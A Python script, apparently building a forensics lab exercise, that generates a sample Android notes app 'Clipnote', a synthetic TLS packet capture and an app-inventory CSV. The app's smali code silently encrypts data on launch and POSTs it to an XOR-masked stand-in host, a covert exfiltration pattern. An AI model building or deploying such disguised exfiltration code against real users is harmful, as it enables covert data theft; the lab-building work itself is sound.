#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Makes clipnote_1.3.0.apk, clipnote-lab.pcap and clipnote_apps.csv beside itself.

Debian 12: smali aapt zipalign apksigner android-framework-res openssl zip python3. server.key.pem is throw-away: both halves are
published on purpose, it protects nothing.

App: a notes app that seals an AES key with the RSA key that stands in it, encrypts with AES-GCM, and posts both to a host whose
name is masked byte for byte with 0x5a. Capture: the TLS 1.2 records are real, spoken by two ends of Python's ssl in this
process; Ethernet, IP and TCP around them, the lease and the names are written here. So the records differ each time, the rest does not.
"""
import base64
import csv
import hashlib
import os
import pathlib
import shutil
import ssl
import struct
import subprocess
import tempfile

here = pathlib.Path(__file__).resolve().parent
sample = here.parent.parent / "sample"
HOST, PORT, PATH = "n3.ledgerleaf.example", 8443, "/k"
spki = base64.b64encode(subprocess.run(["openssl", "pkey", "-in", here / "server.key.pem", "-pubout", "-outform", "der"], check=True, capture_output=True).stdout).decode()
masked = "\n        ".join(f"{ord(c) ^ 0x5a:#x}t" for c in f"https://{HOST}:{PORT}{PATH}")
length = len(f"https://{HOST}:{PORT}{PATH}")

MAIN = """.class public Lexample/keytrail/clipnote/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"
.method public constructor <init>()V
    .registers 1
    .line 9
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method
.method protected onCreate(Landroid/os/Bundle;)V
    .registers 4
    .line 12
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    .line 13
    new-instance v0, Ljava/lang/Thread;
    new-instance v1, Lexample/keytrail/clipnote/Courier;
    const-string v2, "note"
    invoke-direct {v1, v2}, Lexample/keytrail/clipnote/Courier;-><init>(Ljava/lang/String;)V
    invoke-direct {v0, v1}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V
    invoke-virtual {v0}, Ljava/lang/Thread;->start()V
    return-void
.end method
"""
ENVELOPE = f""".class final Lexample/keytrail/clipnote/Envelope;
.super Ljava/lang/Object;
.source "Envelope.java"
.method static wrap([B)[B
    .registers 6
    .line 14
    new-instance v0, Ljava/security/spec/X509EncodedKeySpec;
    const-string v1, "{spki}"
    const/4 v2, 0x0
    invoke-static {{v1, v2}}, Landroid/util/Base64;->decode(Ljava/lang/String;I)[B
    move-result-object v1
    invoke-direct {{v0, v1}}, Ljava/security/spec/X509EncodedKeySpec;-><init>([B)V
    .line 15
    const-string v1, "RSA"
    invoke-static {{v1}}, Ljava/security/KeyFactory;->getInstance(Ljava/lang/String;)Ljava/security/KeyFactory;
    move-result-object v1
    invoke-virtual {{v1, v0}}, Ljava/security/KeyFactory;->generatePublic(Ljava/security/spec/KeySpec;)Ljava/security/PublicKey;
    move-result-object v0
    .line 16
    const-string v1, "RSA/ECB/OAEPWithSHA-256AndMGF1Padding"
    invoke-static {{v1}}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
    move-result-object v1
    const/4 v2, 0x1
    invoke-virtual {{v1, v2, v0}}, Ljavax/crypto/Cipher;->init(ILjava/security/Key;)V
    .line 17
    invoke-virtual {{v1, p0}}, Ljavax/crypto/Cipher;->doFinal([B)[B
    move-result-object v0
    return-object v0
.end method
.method static close([B[B)[B
    .registers 6
    .line 21
    new-instance v0, Ljavax/crypto/spec/SecretKeySpec;
    const-string v1, "AES"
    invoke-direct {{v0, p0, v1}}, Ljavax/crypto/spec/SecretKeySpec;-><init>([BLjava/lang/String;)V
    const-string v1, "AES/GCM/NoPadding"
    invoke-static {{v1}}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
    move-result-object v1
    const/4 v2, 0x1
    invoke-virtual {{v1, v2, v0}}, Ljavax/crypto/Cipher;->init(ILjava/security/Key;)V
    invoke-virtual {{v1, p1}}, Ljavax/crypto/Cipher;->doFinal([B)[B
    move-result-object v0
    return-object v0
.end method
"""
COURIER = f""".class final Lexample/keytrail/clipnote/Courier;
.super Ljava/lang/Object;
.source "Courier.java"
.implements Ljava/lang/Runnable;
.field private final text:Ljava/lang/String;
.method constructor <init>(Ljava/lang/String;)V
    .registers 2
    invoke-direct {{p0}}, Ljava/lang/Object;-><init>()V
    iput-object p1, p0, Lexample/keytrail/clipnote/Courier;->text:Ljava/lang/String;
    return-void
.end method
.method private static place([B)Ljava/lang/String;
    .registers 3
    .line 18
    const/4 v0, 0x0
    :again
    array-length v1, p0
    if-ge v0, v1, :done
    aget-byte v1, p0, v0
    xor-int/lit8 v1, v1, 0x5a
    int-to-byte v1, v1
    aput-byte v1, p0, v0
    add-int/lit8 v0, v0, 0x1
    goto :again
    :done
    new-instance v0, Ljava/lang/String;
    invoke-direct {{v0, p0}}, Ljava/lang/String;-><init>([B)V
    return-object v0
.end method
.method public run()V
    .registers 8
    :try_start
    .line 24
    const/16 v0, 0x20
    new-array v0, v0, [B
    new-instance v1, Ljava/security/SecureRandom;
    invoke-direct {{v1}}, Ljava/security/SecureRandom;-><init>()V
    invoke-virtual {{v1, v0}}, Ljava/security/SecureRandom;->nextBytes([B)V
    .line 25
    iget-object v1, p0, Lexample/keytrail/clipnote/Courier;->text:Ljava/lang/String;
    invoke-virtual {{v1}}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-static {{v0, v1}}, Lexample/keytrail/clipnote/Envelope;->close([B[B)[B
    move-result-object v1
    .line 26
    invoke-static {{v0}}, Lexample/keytrail/clipnote/Envelope;->wrap([B)[B
    move-result-object v0
    .line 27
    const/16 v2, {length:#x}
    new-array v2, v2, [B
    fill-array-data v2, :data
    invoke-static {{v2}}, Lexample/keytrail/clipnote/Courier;->place([B)Ljava/lang/String;
    move-result-object v2
    .line 28
    new-instance v3, Ljava/net/URL;
    invoke-direct {{v3, v2}}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {{v3}}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v3
    check-cast v3, Ljava/net/HttpURLConnection;
    const-string v4, "POST"
    invoke-virtual {{v3, v4}}, Ljava/net/HttpURLConnection;->setRequestMethod(Ljava/lang/String;)V
    const/4 v4, 0x1
    invoke-virtual {{v3, v4}}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V
    .line 29
    invoke-virtual {{v3}}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v4
    invoke-virtual {{v4, v0}}, Ljava/io/OutputStream;->write([B)V
    invoke-virtual {{v4, v1}}, Ljava/io/OutputStream;->write([B)V
    invoke-virtual {{v4}}, Ljava/io/OutputStream;->close()V
    invoke-virtual {{v3}}, Ljava/net/HttpURLConnection;->getResponseCode()I
    :try_end
    .catch Ljava/lang/Exception; {{:try_start .. :try_end}} :later
    return-void
    :later
    move-exception v0
    return-void
    nop
    :data
    .array-data 1
        {masked}
    .end array-data
.end method
"""
MANIFEST = """<?xml version="1.0" encoding="utf-8"?>
<manifest xmlns:android="http://schemas.android.com/apk/res/android" package="example.keytrail.clipnote" android:versionCode="10300" android:versionName="1.3.0">
    <uses-sdk android:minSdkVersion="24" android:targetSdkVersion="29" />
    <uses-permission android:name="android.permission.INTERNET" />
    <application android:label="Clipnote">
        <activity android:name=".MainActivity" android:exported="true">
            <intent-filter>
                <action android:name="android.intent.action.MAIN" />
                <category android:name="android.intent.category.LAUNCHER" />
            </intent-filter>
        </activity>
    </application>
</manifest>
"""


def make_app(out):
    with tempfile.TemporaryDirectory() as folder:
        work = pathlib.Path(folder)
        run = lambda *call: subprocess.run([str(part) for part in call], check=True, cwd=work)
        (work / "smali").mkdir()
        for name, text in ("MainActivity", MAIN), ("Envelope", ENVELOPE), ("Courier", COURIER):
            (work / "smali" / f"{name}.smali").write_text(text)
        (work / "AndroidManifest.xml").write_text(MANIFEST)
        run("smali", "assemble", "--api", "24", "--output", "classes.dex", "smali")
        run("aapt2", "link", "-o", "app.zip", "-I", os.environ.get("FRAMEWORK_RES", "/usr/share/android-framework-res/framework-res.apk"), "--manifest", "AndroidManifest.xml")
        run("zip", "-q", "-X", "app.zip", "classes.dex")
        run("zipalign", "-f", "4", "app.zip", "aligned.apk")
        run("openssl", "pkcs8", "-topk8", "-nocrypt", "-outform", "der", "-in", sample / "src/keys/signer.key.pem", "-out", "signer.pk8")
        run("apksigner", "sign", "--key", "signer.pk8", "--cert", sample / "src/keys/signer.x509.pem", "--min-sdk-version", "24", "--v4-signing-enabled", "false", "--out", out, "aligned.apk")


PHONE, ROUTER = bytes.fromhex("00005e005331"), bytes.fromhex("00005e005301")
CLIENT, RESOLVER, SERVER = bytes([192, 168, 73, 95]), bytes([192, 168, 73, 1]), bytes([203, 0, 113, 130])


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ip(protocol, segment, out):
    source, target = (CLIENT, SERVER) if out else (SERVER, CLIENT)
    if protocol == 17:
        source, target = (CLIENT, RESOLVER) if out else (RESOLVER, CLIENT)
    at = 6 if protocol == 17 else 16
    pseudo = source + target + struct.pack(">BBH", 0, protocol, len(segment))
    segment = segment[:at] + struct.pack(">H", checksum(pseudo + segment)) + segment[at + 2:]
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(segment), 0, 0x4000, 64, protocol, 0) + source + target
    head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
    return (ROUTER + PHONE if out else PHONE + ROUTER) + b"\x08\0" + head + segment


def udp(out, payload, port=40513):
    return ip(17, struct.pack(">HHHH", *((port, 53) if out else (53, port)), 8 + len(payload), 0) + payload, out)


def dns(number, answered):
    name = b"".join(bytes([len(part)]) + part.encode() for part in HOST.split(".")) + b"\0"
    head = struct.pack(">HHHHHH", number, 0x8180 if answered else 0x0100, 1, int(answered), 0, 0)
    answer = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 300, 4) + SERVER if answered else b""
    return head + name + struct.pack(">HH", 1, 1) + answer


def spoken(body):
    """What both ends say, in order: (from the client, bytes)."""
    server = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    server.load_cert_chain(here / "server.x509.pem", here / "server.key.pem")
    client = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    client.check_hostname, client.verify_mode = False, ssl.CERT_NONE
    for context in server, client:
        context.minimum_version = context.maximum_version = ssl.TLSVersion.TLSv1_2
    pipes = [ssl.MemoryBIO() for _ in range(4)]
    ends = [client.wrap_bio(pipes[0], pipes[1], server_hostname=HOST), server.wrap_bio(pipes[2], pipes[3], server_side=True)]
    said = []

    def carry():
        for out, source, target in (True, pipes[1], pipes[2]), (False, pipes[3], pipes[0]):
            data = source.read()
            if data:
                said.append((out, data))
                target.write(data)

    for _ in range(6):
        for end in ends:
            try:
                end.do_handshake()
            except ssl.SSLWantReadError:
                pass
            carry()
    ends[0].write(f"POST {PATH} HTTP/1.1\r\nHost: {HOST}:{PORT}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
    carry()
    ends[1].read()
    ends[1].write(b"HTTP/1.1 204 No Content\r\n\r\n")
    carry()
    return said


def connection(port):
    place = {True: 1000, False: 5000}

    def segment(out, flags, data=b""):
        ports = (port, PORT) if out else (PORT, port)
        built = struct.pack(">HHIIBBHHH", *ports, place[out], place[not out] if flags & 16 else 0, 0x50, flags, 64240, 0, 0) + data
        place[out] += len(data) + (1 if flags & 3 else 0)
        return ip(6, built, out)

    frames = [segment(True, 2), segment(False, 18), segment(True, 16)]
    for out, data in spoken(os.urandom(256 + 60)):
        for at in range(0, len(data), 1400):
            frames += [segment(out, 24, data[at:at + 1400]), segment(not out, 16)]
    return frames + [segment(True, 17), segment(False, 17), segment(True, 16)]


def make_capture(out):
    # Three calls, forty seconds apart, from 2026-11-26 09:15:00 UTC.
    start = 1795684500
    with open(out, "wb") as file:
        file.write(struct.pack("<IHHIIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
        for call in range(3):
            frames = ([udp(True, dns(7, False)), udp(False, dns(7, True))] if call == 0 else []) + connection(40200 + call)
            for at, frame in enumerate(frames):
                file.write(struct.pack("<IIII", start + 40 * call, 12000 * at, len(frame), len(frame)) + frame)


def make_list(out):
    with open(sample / "apps.csv", newline="", encoding="utf-8") as file:
        rows = [row for row in csv.DictReader(file) if row["DeviceName"] == "SG-PX6-022"]
    added = dict(rows[0])
    added.update({"ApplicationKey": hashlib.sha256(b"Clipnote 1.3.0").hexdigest(), "ApplicationName": "Clipnote", "ApplicationPublisher": "", "ApplicationShortVersion": "1.3.0", "ApplicationVersion": "1.3.0"})
    with open(out, "w", newline="", encoding="utf-8") as file:
        table = csv.DictWriter(file, list(added), lineterminator="\r\n")
        table.writeheader()
        table.writerows(rows + [added])


make_app(here / "clipnote_1.3.0.apk")
make_capture(here / "clipnote-lab.pcap")
make_list(here / "clipnote_apps.csv")
